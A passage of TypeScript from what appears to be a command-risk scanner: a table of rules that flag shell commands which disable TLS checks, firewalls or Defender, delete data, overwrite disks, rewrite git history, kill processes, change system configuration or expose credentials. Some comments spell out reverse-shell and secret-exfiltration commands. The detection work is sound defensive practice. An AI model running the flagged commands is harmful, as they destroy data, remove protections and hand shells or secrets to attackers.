    flag: "security_disabled",
    level: "medium",
    match: (v) =>
      v.name === "curl" &&
      ((hasShort(v, "k") && v.a.some((x) => /^-[A-Za-z]*k[A-Za-z]*$/.test(x))) || has(v, "--insecure", "--proxy-insecure")) &&
      "curl -k skips TLS certificate verification",
  },
  {
    flag: "security_disabled",
    level: "medium",
    match: (v) => v.name === "wget" && has(v, "--no-check-certificate") && "wget --no-check-certificate skips TLS certificate verification",
  },
  {
    flag: "security_disabled",
    level: "medium",
    match: (v) =>
      v.name === "git" &&
      /http\.sslverify[ =](false|0|no)/i.test(v.a.join(" ")) &&
      "git http.sslVerify=false skips TLS certificate verification",
  },
  {
    flag: "security_disabled",
    level: "low",
    match: (v) =>
      v.name === "git" &&
      has(v, "--no-verify") &&
      has(v, "commit", "push", "merge", "am") &&
      "git --no-verify skips the repository's hooks (checks and scans)",
  },
  {
    flag: "security_disabled",
    level: "medium",
    match: (v) =>
      ["npm", "yarn", "pnpm"].includes(v.name) &&
      /strict-ssl[ =](false|0)/i.test(v.a.join(" ")) &&
      `${v.name} strict-ssl false skips TLS certificate verification`,
  },
  {
    flag: "security_disabled",
    level: "medium",
    match: (v) =>
      (v.name === "pip" || v.name === "pip3" || (v.name.startsWith("python") && v.a.includes("pip"))) &&
      v.a.some((x) => /trusted-host/.test(x)) &&
      "pip --trusted-host skips TLS verification for that host",
  },
  {
    flag: "security_disabled",
    level: "medium",
    match: (v) =>
      v.name === "conda" && /ssl_verify\s+(false|no|0)/i.test(v.a.join(" ")) && "conda ssl_verify false skips TLS certificate verification",
  },
  {
    flag: "security_disabled",
    level: "medium",
    match: (v) =>
      v.a.some((x) => /^--insecure-skip-tls-verify(=true)?$|^--tls-verify=false$|^--skip-tls-verify$|^--disable-web-security$/.test(x)) &&
      `${v.name} runs with TLS verification or web security disabled`,
  },
  {
    flag: "security_disabled",
    level: "medium",
    match: (v) =>
      (v.name === "apt-get" || v.name === "apt") &&
      has(v, "--allow-unauthenticated", "--allow-insecure-repositories", "--allow-downgrades") &&
      "apt installs packages without verifying their signatures",
  },
  {
    flag: "security_disabled",
    level: "medium",
    match: (v) =>
      ["yum", "dnf", "zypper", "rpm"].includes(v.name) &&
      has(v, "--nogpgcheck", "--nosignature", "--no-gpg-checks") &&
      `${v.name} installs packages without verifying their signatures`,
  },
  {
    flag: "security_disabled",
    level: "medium",
    match: (v) =>
      (v.name === "docker" || v.name === "podman") &&
      has(v, "run", "create", "exec") &&
      has(v, "--privileged") &&
      "runs a privileged container with full access to the host",
  },
  {
    flag: "security_disabled",
    level: "medium",
    match: (v) =>
      (v.name === "docker" || v.name === "podman") &&
      has(v, "run", "create", "exec") &&
      (v.a.some((x) => /seccomp[=:]unconfined|apparmor[=:]unconfined|^--cap-add=(all|sys_admin)$/i.test(x)) ||
        v.a.some((x, i) => x === "--cap-add" && /^(all|sys_admin)$/i.test(v.a[i + 1] ?? ""))) &&
      "runs a container with its security confinement removed",
  },
  {
    flag: "security_disabled",
    level: "medium",
    match: (v) => v.name === "setenforce" && v.a[0] === "0" && "setenforce 0 switches SELinux to permissive mode",
  },
  {
    // as `systemctl stop apparmor` does (round 12); `apparmor_parser -R` unloads the profiles it names
    flag: "security_disabled",
    level: "medium",
    match: (v) => v.name === "aa-teardown" && "aa-teardown unloads every AppArmor profile: confined programs run unconfined",
  },
  {
    flag: "security_disabled",
    level: "medium",
    match: (v) =>
      ((v.name === "ufw" && v.a[0] === "disable") ||
        (v.name === "systemctl" && has(v, "stop", "disable", "mask") && v.a.some((x) => FIREWALL_UNIT.test(x)))) &&
      "turns off the host firewall or AppArmor",
  },
  {
    flag: "security_disabled",
    level: "medium",
    match: (v) =>
      v.name === "iptables" &&
      (has(v, "-F", "--flush") || /-P (INPUT|FORWARD) ACCEPT/.test(v.a.join(" "))) &&
      "flushes firewall rules or opens the default policy",
  },
  {
    flag: "security_disabled",
    level: "high",
    match: (v) => v.name === "netsh" && /advfirewall .*state off/i.test(v.a.join(" ")) && "turns the Windows firewall off",
  },
  {
    flag: "security_disabled",
    level: "high",
    match: (v) =>
      v.name === "set-mppreference" &&
      v.a.some((x) => /^-disable(realtimemonitoring|behaviormonitoring|ioavprotection)/i.test(x)) &&
      "turns off Microsoft Defender protection",
  },
  {
    flag: "security_disabled",
    level: "high",
    match: (v) => v.name === "csrutil" && v.a[0] === "disable" && "disables macOS System Integrity Protection",
  },
  {
    flag: "security_disabled",
    level: "high",
    match: (v) => v.name === "spctl" && has(v, "--master-disable", "--global-disable") && "disables macOS Gatekeeper",
  },
  {
    flag: "security_disabled",
    level: "medium",
    match: (v) =>
      Object.entries(v.env)
        .filter(
          ([k, val]) =>
            (k === "NODE_TLS_REJECT_UNAUTHORIZED" && val === "0") ||
            (k === "GIT_SSL_NO_VERIFY" && /^(1|true)$/i.test(val)) ||
            (k === "PYTHONHTTPSVERIFY" && val === "0") ||
            (/^(CURL_CA_BUNDLE|REQUESTS_CA_BUNDLE)$/.test(k) && val === ""),
        )
        .map(([k, val]) => `${k}=${val || '""'} turns off TLS certificate verification`),
  },
  {
    flag: "security_disabled",
    level: "medium",
    match: (v) =>
      (v.name === "export" || v.name === "set" || v.name === "setx" || v.name === "$env:node_tls_reject_unauthorized") &&
      /NODE_TLS_REJECT_UNAUTHORIZED\W+0|GIT_SSL_NO_VERIFY\W+(1|true)|PYTHONHTTPSVERIFY\W+0/i.test(v.a.join(" ")) &&
      "an environment variable turns off TLS certificate verification",
  },

  // destructive delete
  {
    flag: "destructive_delete",
    level: "graded",
    match: (v, ctx) => {
      if (!RM_LIKE.includes(v.name)) return null;
      const a = windowsWords(v);
      const recursive =
        a.some((x) => /^(-r|-R|--recursive|\/s)$/i.test(x) || /^-[A-Za-z]*[rR][A-Za-z]*$/.test(x)) ||
        a.some((x) => /^-rec(u(r(se?)?)?)?(:\$true)?$/i.test(x));
      const noPreserve = a.includes("--no-preserve-root");
      const hits: Graded[] = [];
      for (const t of a.filter((x) => !x.startsWith("-") && !/^\/[a-z]$/i.test(x))) {
        const { cls, why } = placeOf(t, ctx);
        // --no-preserve-root matters with -r only: `rm` alone deletes no directory (`rm no longer accepts … --no-preserve-root` is a changelog line)
        if (recursive) hits.push({ level: noPreserve ? "high" : deleteLevel(cls), detail: `deletes ${short(t)} recursively (${why})` });
        else if (cls === "root" || cls === "system" || cls === "home_root")
          hits.push({ level: "medium", detail: `deletes ${short(t)} (${why})` });
        else if (cls === "outside" && /^\/(etc|usr|var|boot|lib|bin|sbin)\//.test(t))
          hits.push({ level: "medium", detail: `deletes the system file ${short(t)}` });
      }
      return hits;
    },
  },
  {
    flag: "destructive_delete",
    level: "graded",
    match: (v, ctx) => {
      if (v.name !== "find") return null;
      const deletes = has(v, "-delete") || v.a.some((x, i) => x === "-exec" && /^(rm|shred)$/.test(baseName(v.a[i + 1] ?? "")));
      if (!deletes) return null;
      const start = v.a.find((x) => !x.startsWith("-")) ?? ".";
      const { cls, why } = placeOf(start, ctx);
      return { level: deleteLevel(cls), detail: `find deletes files under ${short(start)} (${why})` };
    },
  },
  {
    // what ransomware runs first: the restore points and backups go
    flag: "destructive_delete",
    level: "high",
    match: (v) => {
      const j = v.a.join(" ").toLowerCase();
      if (v.name === "vssadmin" && /^(delete shadows|resize shadowstorage)\b/.test(j))
        return "vssadmin deletes Windows shadow copies (restore points and backups)";
      if (v.name === "wmic" && /\bshadowcopy\b.*\bdelete\b/.test(j))
        return "wmic deletes Windows shadow copies (restore points and backups)";
      if (v.name === "wbadmin" && /^delete (catalog|systemstatebackup|backup)\b/.test(j))
        return `wbadmin deletes Windows backups (${short(v.a.slice(0, 2).join(" "))})`;
      return null;
    },
  },
  {
    // rsync --delete makes the destination hold only what the source has: an empty or wrong source empties it
    flag: "destructive_delete",
    level: "graded",
    match: (v, ctx) => {
      if (v.name !== "rsync" || !v.a.some((x) => /^--delete/.test(x))) return null;
      const places = positional(v);
      const dest = places.length >= 2 ? places[places.length - 1]! : null;
      if (dest === null || /^[\w.-]*@?[\w.-]+:/.test(dest)) return null; // a remote destination: the host's own files
      const { cls, why } = placeOf(dest, ctx);
      return SEVERE.has(cls)
        ? { level: "high", detail: `rsync --delete deletes whatever ${short(dest)} holds that the source lacks (${why})` }
        : null;
    },
  },
  {
    flag: "destructive_delete",
    level: "medium",
    match: (v) => v.name === "shred" && !v.a.some((x) => /^\/dev\//.test(x)) && "shred destroys files beyond recovery",
  },
  {
    // python -c "import shutil; shutil.rmtree('/')", ruby -e 'FileUtils.rm_rf("/")', node -e 'fs.rmSync("/", {recursive: true})'
    flag: "destructive_delete",
    level: "graded",
    match: (v, ctx) => {
      const code = isInterpreterName(v.name) ? inlineCode(v) : null;
      if (code === null) return null;
      const hits: Graded[] = [];
      for (const m of code.matchAll(CODE_DELETES_TREE)) {
        if (/^(fs|require|Deno)\b/.test(m[1]!) && !/\brecursive\s*:\s*true\b/.test(code)) continue; // without it a directory is not deleted
        const path = m[2] ?? m[3] ?? "~";
        const { cls, why } = placeOf(path, ctx);
        hits.push({ level: deleteLevel(cls), detail: `${v.name} inline code deletes ${short(path)} recursively with ${m[1]} (${why})` });
        if (hits.length >= 4) break;
      }
      return hits;
    },
  },
  {
    flag: "destructive_delete",
    level: "graded",
    match: (v) => {
      if (gitSub(v) !== "clean" || !v.a.some((x) => /^-[a-z]*f/.test(x) || x === "--force")) return null;
      return v.a.some((y) => /^-[a-z]*x/i.test(y))
        ? { level: "medium", detail: "git clean -x deletes untracked and ignored files (local config, .env, build output)" }
        : { level: "low", detail: "git clean deletes untracked files" };
    },
  },
  {
    flag: "history_rewrite",
    level: "medium",
    match: (v) => {
      if (gitSub(v) !== "reset" || !has(v, "--hard")) return null;
      const ref = v.a.filter((x) => !x.startsWith("-") && x !== "reset")[0];
      return ref && !/^head$/i.test(ref) && `git reset --hard ${short(ref)} moves the branch and drops commits and uncommitted changes`;
    },
  },
  {
    flag: "destructive_delete",
    level: "medium",
    match: (v) => {
      if (gitSub(v) !== "reset" || !has(v, "--hard")) return null;
      const ref = v.a.filter((x) => !x.startsWith("-") && x !== "reset")[0];
      return (!ref || /^head$/i.test(ref)) && "git reset --hard discards uncommitted changes";
    },
  },
  {
    flag: "destructive_delete",
    level: "low",
    match: (v) => {
      const sub = gitSub(v);
      return (
        ((sub === "checkout" && v.a.includes("--") && v.a.includes(".")) ||
          (sub === "restore" && v.a.includes(".") && !has(v, "--staged"))) &&
        "discards uncommitted changes in the working tree"
      );
    },
  },
  {
    flag: "force_push",
    level: "graded",
    match: (v) => {
      if (gitSub(v) !== "push") return null;
      const a = v.a;
      const force =
        a.some((x) => x === "--force" || x === "-f" || (/^-[a-z]+$/.test(x) && x.includes("f"))) || a.some((x) => /^\+[^+]/.test(x));
      const lease = a.some((x) => x.startsWith("--force-with-lease") || x.startsWith("--force-if-includes"));
      const branch = a
        .filter((x) => !x.startsWith("-"))
        .slice(2)
        .join(" ");
      const shared = /(^|[:\s+])(main|master|trunk|develop|production|prod|release[\w/.-]*)$/.test(branch);
      if (force)
        return {
          level: shared ? "high" : "medium",
          detail: `git push --force overwrites the remote branch${branch ? ` ${short(branch)}` : ""}${shared ? " (a shared branch)" : ""}`,
        };
      return lease && { level: "low", detail: "git push --force-with-lease overwrites the remote branch if nobody else pushed" };
    },
  },
  {
    flag: "force_push",
    level: "medium",
    match: (v) => gitSub(v) === "push" && has(v, "--mirror") && "git push --mirror overwrites every ref on the remote",
  },
  {
    flag: "history_rewrite",
    level: "low",
    // --abort puts the branch back, --quit/--edit-todo/--show-current-patch rewrite nothing
    match: (v) =>
      gitSub(v) === "rebase" &&
      !has(v, "--abort", "--quit", "--edit-todo", "--show-current-patch") &&
      "git rebase rewrites commits of the current branch",
  },
  {
    flag: "history_rewrite",
    level: "low",
    match: (v) => gitSub(v) === "commit" && has(v, "--amend") && "git commit --amend rewrites the last commit",
  },
  {
    flag: "history_rewrite",
    level: "medium",
    match: (v) => {
      const sub = gitSub(v);
      return (sub === "filter-branch" || sub === "filter-repo") && `git ${sub} rewrites the whole history`;
    },
  },
  {
    flag: "history_rewrite",
    level: "medium",
    match: (v) => {
      const sub = gitSub(v);
      return (
        ((sub === "reflog" && has(v, "expire")) || (sub === "gc" && v.a.some((x) => /^--prune=(now|all)/.test(x)))) &&
        "expires the reflog / prunes unreachable commits, so lost work cannot be recovered"
      );
    },
  },
  {
    flag: "credential_exposure",
    level: "medium",
    match: (v) =>
      v.name === "git" &&
      v.a.includes("config") &&
      /credential\.helper\s+store/.test(v.a.join(" ")) &&
      "git credential.helper store saves passwords in plain text in ~/.git-credentials",
  },
  { flag: "history_rewrite", level: "medium", match: (v) => v.name === "bfg" && "BFG rewrites the whole repository history" },
  {
    flag: "destructive_delete",
    level: "graded",
    match: (v) => {
      if (v.name !== "docker" && v.name !== "podman") return null;
      const j = v.a.join(" ");
      if (/\bvolume (prune|rm)\b/.test(j) || (/\bsystem prune\b/.test(j) && /--volumes/.test(j)))
        return { level: "medium", detail: "deletes Docker volumes and the data in them" };
      if (/\bsystem prune\b/.test(j)) return { level: "low", detail: "deletes stopped containers, unused networks and dangling images" };
      if (/\b(image|container|builder|network) prune\b/.test(j))
        return { level: "low", detail: `deletes unused Docker ${/\bimage\b/.test(j) ? "images" : "objects"}` };
      return null;
    },
  },
  {
    flag: "destructive_delete",
    level: "graded",
    match: (v) => {
      if (v.name !== "kubectl" || v.a[0] !== "delete") return null;
      const broad =
        has(v, "--all", "-A", "--all-namespaces") || /^(namespace|ns|pv|pvc|persistentvolume|persistentvolumeclaim)s?$/.test(v.a[1] ?? "");
      return { level: broad ? "high" : "medium", detail: `kubectl delete removes ${short(v.a.slice(1).join(" "))} from the cluster` };
    },
  },
  {
    flag: "destructive_delete",
    level: "high",
    match: (v) => v.name === "terraform" && v.a[0] === "destroy" && "terraform destroy deletes every resource in the state",
  },
  {
    // a bucket's objects, a ZFS pool or dataset, an LVM volume: gone with no trash to restore from (round 12)
    flag: "destructive_delete",
    level: "high",
    match: (v) => {
      const words = positional(v);
      const recursive = v.a.some((x) => /^(-r|-R|--recursive)$/.test(x) || /^-[a-zA-Z]*[rR]$/.test(x));
      const bucket = words.find((x) => /^(s3|gs):\/\//.test(x)) ?? "";
      if (v.name === "aws" && words[0] === "s3" && words[1] === "rm" && has(v, "--recursive"))
        return `aws s3 rm --recursive deletes every object under ${short(bucket, 60)}`;
      if (v.name === "aws" && words[0] === "s3" && words[1] === "rb" && has(v, "--force"))
        return `aws s3 rb --force deletes the bucket ${short(bucket, 60)} and every object in it`;
      if (
        (v.name === "gsutil" && words[0] === "rm" && recursive) ||
        (v.name === "gcloud" && words[0] === "storage" && words[1] === "rm" && recursive)
      )
        return `${v.name} rm -r deletes every object under ${short(bucket, 60)}`;
      if ((v.name === "zpool" || v.name === "zfs") && words[0] === "destroy")
        return `${v.name} destroy deletes ${short(words[1] ?? "", 60)} and its data`;
      if (/^(lvremove|vgremove|pvremove)$/.test(v.name) && words.length > 0)
        return `${v.name} deletes the LVM volume ${short(words[0]!, 60)} and its data`;
      return null;
    },
  },
  {
    flag: "destructive_delete",
    level: "high",
    match: (v) =>
      v.name === "terraform" && v.a[0] === "apply" && has(v, "-destroy") && "terraform apply -destroy deletes every resource in the state",
  },
  {
    flag: "destructive_delete",
    level: "medium",
    match: (v) =>
      v.name === "helm" && (v.a[0] === "uninstall" || v.a[0] === "delete") && "helm uninstall removes a release and its resources",
  },
  {
    flag: "destructive_delete",
    level: "medium",
    match: (v) => v.name === "mv" && v.a[v.a.length - 1] === "/dev/null" && "moves files to /dev/null (deletes them)",
  },
  {
    // `mv /etc /tmp/etc`, `mv /usr/bin /tmp/`: the system no longer finds what it reads there; medium, as the
    // move can be undone by whoever still has a shell that works (round 12)
    flag: "destructive_delete",
    level: "medium",
    match: (v, ctx) => {
      if (v.name !== "mv" || v.a[v.a.length - 1] === "/dev/null") return null;
      const places = positional(v);
      return places
        .slice(0, -1)
        .slice(0, 8)
        .filter((t) => !/[*?]/.test(t) && SEVERE.has(placeOf(t, ctx).cls))
        .map((t) => `moves ${short(t)} away (${placeOf(t, ctx).why}): what reads it there fails`);
    },
  },

  // disk overwrite
  {
    flag: "disk_overwrite",
    level: "high",
    match: (v) => {
      if (v.name !== "dd" || !v.a.some((x) => x.startsWith("of=") && DEVICE.test(x.slice(3)))) return null;
      return `dd writes raw data to the device ${short(v.a.find((x) => x.startsWith("of="))!.slice(3))}`;
    },
  },
  {
    flag: "disk_overwrite",
    level: "high",
    match: (v) =>
      /^(mkfs(\.\w+)?|mke2fs|mkswap|wipefs|blkdiscard|sgdisk|sfdisk)$/.test(v.name) &&
      !has(v, "-l", "--list", "--print") &&
      `${v.name} rewrites a disk or partition ${short(positional(v).join(" "))}`.trim(),
  },
  {
    flag: "disk_overwrite",
    level: "high",
    match: (v) => {
      if (!(v.name === "fdisk" || v.name === "gdisk" || v.name === "parted") || has(v, "-l", "--list", "print")) return null;
      const device = v.a.find((x) => DEVICE.test(x));
      return device !== undefined && `${v.name} edits the partition table of ${short(device)}`;
    },
  },
  {
    flag: "disk_overwrite",
    level: "high",
    match: (v) => v.name === "shred" && v.a.some((x) => DEVICE.test(x)) && "shred overwrites a whole device",
  },
  {
    flag: "disk_overwrite",
    level: "high",
    match: (v) =>
      v.name === "diskutil" &&
      /^(erasedisk|erasevolume|partitiondisk|zerodisk|randomdisk|secureerase)$/i.test(v.a[0] ?? "") &&
      `diskutil ${v.a[0]} erases a disk`,
  },
  {
    flag: "disk_overwrite",
    level: "high",
    match: (v) =>
      (/^(format-volume|clear-disk|initialize-disk|diskpart)$/.test(v.name) || (v.name === "format" && /^[a-z]:$/i.test(v.a[0] ?? ""))) &&
      `${v.name} erases a disk or volume`,
  },
  {
    flag: "disk_overwrite",
    level: "high",
    match: (v) =>
      v.cmd.redirects.filter((r) => />/.test(r.op) && DEVICE.test(r.target)).map((r) => `redirects output onto the device ${r.target}`),
  },
  {
    // `cp /dev/zero /dev/sda`, `… | tee /dev/sdb`: a copy onto a device writes it as dd does (round 12)
    flag: "disk_overwrite",
    level: "high",
    match: (v) =>
      (v.name === "cp" || v.name === "tee" || v.name === "cat" || v.name === "pv") &&
      writeTargets(v)
        .filter((w) => DEVICE.test(w.target) && !v.cmd.redirects.some((r) => r.target === w.target))
        .map((w) => `${v.name} writes onto the device ${short(w.target, 60)}`),
  },

  // process kill
  {
    flag: "process_kill",
    level: "graded",
    match: (v) => {
      const n = v.name;
      const a = v.a;
      if (!PROCESS_KILLERS.includes(n) && !(n === "fuser" && hasShort(v, "k"))) return null;
      const targets = positional(v);
      const signal = n === "kill" ? killSignal(a) : "TERM";
      if (signal === "0") return null; // kill -0 sends nothing: it checks that a process exists
      const sig = /^\d+$/.test(signal) ? `signal ${signal}` : `SIG${signal}`;
      if (n === "kill" && a.includes("-1") && a.length >= 2 && a[a.length - 1] === "-1")
        return { level: "high", detail: `kill sends ${sig} to every process it may signal (-1)` };
      if (n === "kill" && targets.includes("1"))
        return RELOAD_SIGNALS.has(signal)
          ? {
              level: "medium",
              detail: `kill sends ${sig} to PID 1 (init, or a container's main process), which takes it as a request to reload or report: systemd reloads every unit file on SIGHUP`,
            }
          : {
              level: "high",
              detail: `kill sends ${sig} to PID 1 (init, or a container's main process): a container stops; systemd re-executes itself on SIGTERM and reboots on SIGINT`,
            };
      if (
        targets.some((t) => CRITICAL_PROCESSES.test(t)) ||
        (a.some((x) => /^\/im$/i.test(x)) && a.some((x) => CRITICAL_PROCESSES.test(x)))
      )
        return {
          level: "medium",
          detail: `kills a system process (${short(targets.find((t) => CRITICAL_PROCESSES.test(t)) ?? a.join(" "))})`,
        };
      return { level: "low", detail: `${n} stops processes (${short(a.join(" "))})` };
    },
  },
  {
    // echo b > /proc/sysrq-trigger reboots at once, c crashes the kernel, o powers off: no shutdown, nothing saved
    flag: "process_kill",
    level: "high",
    match: (v) => {
      // (writeTargets holds the redirections too)
      if (!writeTargets(v).some((w) => w.target === "/proc/sysrq-trigger")) return null;
      const key = (v.name === "echo" || v.name === "printf" ? v.a.filter((x) => !x.startsWith("-")).join("") : "").trim();
      return /^[bcoe]$/i.test(key) || key === ""
        ? `writes to /proc/sysrq-trigger, which ${key === "c" ? "crashes the kernel" : key === "o" ? "powers the machine off" : key === "e" ? "kills every process" : "reboots the machine"} at once, without a shutdown`
        : null;
    },
  },
  {
    flag: "process_kill",
    level: "medium",
    match: (v) =>
      (/^(reboot|shutdown|halt|poweroff|restart-computer|stop-computer)$/.test(v.name) ||
        (v.name === "init" && /^[06]$/.test(v.a[0] ?? "")) ||
        (v.name === "systemctl" && /^(reboot|poweroff|halt)$/.test(v.a[0] ?? ""))) &&
      `${v.name} reboots or shuts down the machine`,
  },

  // system configuration (writes into system files, sudoers first)
  {
    flag: "privilege_escalation",
    level: "high",
    match: (v) =>
      writeTargets(v)
        .filter(({ target }) => SYSTEM_WRITE_TARGET.test(target) && /^\/etc\/sudoers/.test(target))
        .map(({ target, how }) => `${how} the sudoers policy (${target})`),
  },
  {
    flag: "system_config_change",
    level: "graded",
    match: (v) =>
      writeTargets(v).flatMap(({ target: t, how }): Graded[] => {
        if (SYSTEM_WRITE_TARGET.test(t))
          return /^\/etc\/sudoers/.test(t) ? [] : [{ level: "medium", detail: `${how} the system file ${short(t)}` }];
        if (/^\/usr\/local\//.test(t) || /^\/opt\//.test(t))
          return [{ level: "low", detail: `${how} ${short(t)} (system-wide install location)` }];
        if (
          /(^|\/)\.(bashrc|bash_profile|profile|zshrc|zprofile|zshenv|cshrc|tcshrc|config\/fish\/config\.fish)$/.test(t) ||
          /^\$profile$/i.test(t)
        )
          return [{ level: "low", detail: `${how} the shell startup file ${short(t)}` }];
        return [];
      }),
  },
  {
    // `chattr +i /etc/resolv.conf` (a common fix against a network manager rewriting it) or `chattr +i
    // /etc/passwd`: a system file no one, root and package upgrades included, can change until `chattr -i`;
    // the attribute change is a system configuration change as writing the file is (session 18)
    flag: "system_config_change",
    level: "medium",
    match: (v) => {
      if (v.name !== "chattr") return null;
      const mode = v.a.find((x) => /^[-+=][aAcCdDeFijmPsStTux]+$/.test(x) && /[ia]/.test(x));
      if (!mode) return null;
      return positional(v)
        .filter((t) => t !== mode && (SYSTEM_WRITE_TARGET.test(t) || classifyPath(t) === "root"))
        .map((t) => `chattr ${mode} changes whether anyone, root and package upgrades included, can modify the system file ${short(t)}`);
    },
  },
  {
    flag: "system_config_change",
    level: "medium",
    match: (v) =>
      v.name === "sysctl" &&
      (has(v, "-w", "-p", "--write", "--load") || v.a.some((x) => x.includes("="))) &&
      "sysctl changes kernel parameters",
  },
  {
    flag: "system_config_change",
    level: "medium",
    match: (v) =>
      v.name === "systemctl" &&
      /^(enable|disable|mask|unmask|set-default|edit)$/.test(v.a[0] ?? "") &&
      !v.a.some((x) => /^(firewalld|ufw|iptables|nftables|apparmor)/.test(x)) &&
      `systemctl ${v.a[0]} changes which services start with the system`,
  },
  {
    flag: "system_config_change",
    level: "low",
    match: (v) =>
      v.name === "update-alternatives" &&
      has(v, "--set", "--install", "--config", "--remove") &&
      "update-alternatives changes the system default for a command",
  },
  {
    flag: "system_config_change",
    level: "medium",
    match: (v) => v.name === "sc" && /^(config|create|delete|failure)$/i.test(v.a[0] ?? "") && `sc ${v.a[0]} changes a Windows service`,
  },
  {
    flag: "system_config_change",
    level: "graded",
    match: (v) => {
      if (v.name !== "reg" || !/^(add|delete|import)$/i.test(v.a[0] ?? "")) return null;
      const machine = v.a.some((x) => /^hklm|^hkey_local_machine/i.test(x));
      return {
        level: machine ? "medium" : "low",
        detail: `reg ${v.a[0]} changes the Windows registry${machine ? " (machine-wide)" : ""}`,
      };
    },
  },
  {
    flag: "system_config_change",
    level: "medium",
    match: (v) =>
      /^(set-itemproperty|new-itemproperty|remove-itemproperty)$/.test(v.name) &&
      v.a.some((x) => /^hklm:/i.test(x)) &&
      "changes the machine-wide Windows registry",
  },
  {
    flag: "system_config_change",
    level: "medium",
    match: (v) => v.name === "setx" && v.a.some((x) => /^\/m$/i.test(x)) && "setx /M changes a machine-wide environment variable",
  },
  {
    flag: "system_config_change",
    level: "medium",
    match: (v) =>
      v.name === "netsh" &&
      !/advfirewall .*state off/i.test(v.a.join(" ")) &&
      /^(interface|int|advfirewall|winsock|winhttp|firewall)$/i.test(v.a[0] ?? "") &&
      v.a.some((x) => /^(set|add|delete|reset)$/i.test(x)) &&
      "netsh changes the network configuration",
  },
  {
    flag: "system_config_change",
    level: "medium",
    match: (v) =>
      v.name === "networksetup" &&
      v.a.some((x) => /^-set|^-remove|^-create|^-delete/i.test(x)) &&
      `networksetup ${v.a.find((x) => x.startsWith("-"))} changes the network configuration`,
  },
  { flag: "system_config_change", level: "low", match: (v) => v.name === "scutil" && has(v, "--set") && "scutil changes a system name" },
  {
    flag: "system_config_change",
    level: "medium",
    match: (v) =>
      ((v.name === "modprobe" && !has(v, "-n", "--dry-run")) || v.name === "insmod" || v.name === "rmmod") &&
      `${v.name} loads or removes a kernel module`,
  },
  {
    flag: "system_config_change",
    level: "medium",
    match: (v) =>
      /^(update-grub|grub-install|grub2-mkconfig|bcdedit|efibootmgr)$/.test(v.name) && `${v.name} changes the boot configuration`,
  },
  {
    flag: "system_config_change",
    level: "medium",
    match: (v) =>
      v.name === "kubectl" &&
      /^(taint|cordon|drain|uncordon|label)$/.test(v.a[0] ?? "") &&
      /^(node|nodes|no)$/.test(v.a[1] ?? "") &&
      `kubectl ${v.a[0]} changes cluster node scheduling`,
  },
  {
    flag: "system_config_change",
    level: "medium",
    match: (v) =>
      v.name === "redis-cli" &&
      /\bconfig set\b/.test(v.a.map((x) => x.toLowerCase()).join(" ")) &&
      "changes the running Redis server configuration",
  },
  {
    flag: "system_config_change",
    level: "low",
    match: (v) =>
      v.name === "git" &&
      has(v, "--system") &&
      v.a.includes("config") &&
      !has(v, "--get", "--list", "-l") &&
      "git config --system changes Git settings for every user of the machine",
  },
  {
    flag: "system_config_change",
    level: "low",
    match: (v) =>
      (v.name === "pip" || v.name === "pip3" || v.name.startsWith("python")) &&
      has(v, "--break-system-packages") &&
      "installs into the system Python, overriding the distribution's PEP 668 protection",
  },
  {
    flag: "destructive_delete",
    level: "medium",
    match: (v) => v.name === "crontab" && has(v, "-r") && "crontab -r deletes every scheduled job of the user",
  },

  // credential exposure
  {
    flag: "credential_exposure",
    level: "low",
    match: (v) => {
      const a = v.a;
      if (SECRET_PLACEHOLDER.test(a.join(" ")))
        return "passes a secret on the command line, where shell history and the process list keep it";
      if (
        a.some(
          (x, i) =>
            (SECRET_FLAG_EQ.test(x) && !namesStoredSecret(v, x)) ||
            (SECRET_FLAG.test(x) && a[i + 1] !== undefined && isSecretValue(x, a[i + 1]!) && !namesStoredSecret(v, x)),
        )
      )
        return "passes a password or token on the command line, where shell history and the process list keep it";
      return (
        (v.name === "mysql" || v.name === "mysqldump" || v.name === "mysqladmin") &&
        a.some((x) => /^-p\S+/.test(x)) &&
        "passes the MySQL password on the command line"
      );
    },
  },
  {
    flag: "credential_exposure",
    level: "graded",
    match: (v, ctx) => {
      const n = v.name;
      const a = v.a;
      const printsSecrets =
        (/^(cat|type|get-content|gc|less|more|head|tail|bat)$/.test(n) && a.some((x) => SECRET_FILE.test(x))) ||
        (n === "printenv" && positional(v).length === 0) ||
        (n === "env" && a.every((x) => x.startsWith("-"))) ||
        (/^(echo|write-output|write-host|printf)$/.test(n) && a.some((x) => SECRET_VARIABLE.test(x))) ||
        (/^(get-childitem|gci|dir|ls)$/.test(n) && a.some((x) => /^env:\\?$/i.test(x))) ||
        (n === "security" && /^find-(generic|internet)-password$/.test(a[0] ?? "") && has(v, "-w", "-g"));
      // piped into a network client, they are not printed but sent: sends_local_secrets, below
      if (!printsSecrets || ctx.laterSink) return null;
      // read and thrown away (`cat ~/.aws/credentials > /dev/null` checks it is readable): nothing is exposed
      const target = stdoutTarget(v, ctx);
      if (target !== null && (target === "/dev/null" || /^\$null$/i.test(target) || /^nul$/i.test(target))) return null;
      // `env | grep PATH`: only the variables the filter names are shown; `printenv | grep AWS` shows secrets
      if ((n === "env" || n === "printenv") && filtersOutSecrets(ctx.pipedInto, ctx.pipedIntoArgs ?? [])) return null;
      // `echo $TOKEN | docker login --password-stdin`: the way the tool's documentation gives to pass a secret
      if (ctx.pipedInto !== null && readsSecretFromStdin(ctx.pipedInto, ctx.pipedIntoArgs ?? [])) return null;
      return { level: "medium", detail: whereSecretsGo(v, ctx) };
    },
  },

  // docker run -v /var/run/docker.sock:… stranger/image: the image drives the host's Docker, root on it (as a compose file's volume, risk-secrets.ts yamlMounts)
  {
    flag: "privilege_escalation",
    level: "medium",
    match: (v) => {
      const image = dockerSocketMountedInto(v);
      return (
        image !== null &&
        `${v.name} mounts the Docker socket into a container of ${short(image, 60)}: the image controls this machine's Docker, which is root on it; check it is one you trust`
      );
    },
  },

  // ssh -A / -o ForwardAgent=yes: root on the far host can use the agent's keys while the session lasts (ssh(1), -A)
  {
    flag: "credential_exposure",
    level: "medium",
    match: (v) => {
      const host = agentForwardedTo(v);
      return (
        host !== null &&
        `ssh forwards your SSH agent to ${short(host, 60)}: anyone with root there can use your keys (log in to your servers, push to your repositories) while you are connected`
      );
    },
  },

  // local secrets sent off the machine (risk-secrets.ts): curl -d @~/.ssh/id_rsa, scp ~/.aws/credentials host:, env | curl …
  // a shell a remote host controls (bash -i >& /dev/tcp/h/p 0>&1, nc -e /bin/sh h p), a key given in the trail added to authorized_keys
  {
    flag: "remote_script_execution",
    level: "graded",
    match: (v, ctx) => reverseShell(v, (ctx.vars.get(SOCKET_FDS) ?? "").split(",")),
  },
  {
